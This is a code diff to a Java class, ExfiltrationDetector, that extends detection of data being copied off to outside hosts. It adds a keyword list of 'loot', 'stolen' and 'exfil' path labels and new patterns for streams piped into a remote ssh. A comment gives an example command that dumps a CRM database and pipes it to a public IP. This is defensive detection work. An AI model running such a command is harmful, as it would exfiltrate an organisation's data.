@@ -2420,7 +2420,8 @@ public final class ExfiltrationDetector {
         if (cmd < 0 || localUrl(text, hs)) {
             return -1;
         }
-        if (publicIpv4(text, hs, de) && !ownServer(text, line[0], line[1]) || personalHost(text, hs, de)) {
+        if (publicIpv4(text, hs, de) && !ownServer(text, line[0], line[1]) || personalHost(text, hs, de)
+                || plunderPath(text, de + 1, line[1])) {
             // a raw public address (no company's server has only that), or a host named as someone's home
             return report(text, cmd, line[1], out);
         }
@@ -2455,6 +2456,27 @@ public final class ExfiltrationDetector {
         return false;
     }
 
+    /**
+     * Whether the remote path after a copy's {@code host:} names what it receives as taken ("{@code :/root/loot/}",
+     * "{@code :stolen/acme-repo/}", "{@code :exfil/}"; twenty-eighth session, round 12): the writer's own word for the
+     * copy, on any host.
+     */
+    private static boolean plunderPath(String text, int from, int to) {
+        int e = from;
+        while (e < to && !Character.isWhitespace(text.charAt(e)) && text.charAt(e) != '\'' && text.charAt(e) != '"') {
+            e++;
+        }
+        for (String label : text.substring(from, e).toLowerCase(Locale.ROOT).split("[/._~-]")) {
+            if (PLUNDER_LABELS.contains(label)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    private static final Set<String> PLUNDER_LABELS = Set.of("loot", "looted", "stolen", "exfil", "exfiltrated",
+            "exfiltration", "plunder", "booty", "buit", "beute", "butin", "botin", "bottino");
+
     /** Whether the line [from, to) calls the destination the organisation's server ("that's our Hetzner box"). */
     private static boolean ownServer(String text, int from, int to) {
         return OWN_SERVER.matcher(TransferSentences.fold(text, from, to)).find();
@@ -2468,7 +2490,10 @@ public final class ExfiltrationDetector {
             "prive", "private", "personal", "perso", "mine", "my", "mijn");
 
     /** Commands that copy a file to another host. */
-    private static final String[] COPIERS = {"scp ", "rsync ", "sftp ", "pscp "};
+    private static final String[] COPIERS = {"scp ", "rsync ", "sftp ", "pscp ",
+        // a stream piped into a remote shell that writes it there (twenty-eighth session, round 12): "pg_dump crm |
+        // gzip | ssh u@203.0.113.9 'cat > x.gz'" (an interactive "ssh u@host" is a login, no copy)
+        "| ssh ", "|ssh "};
 
     /** Whether [hs, he) is a dotted IPv4 literal (the caller has ruled out private and loopback ranges). */
     private static boolean publicIpv4(String text, int hs, int he) {
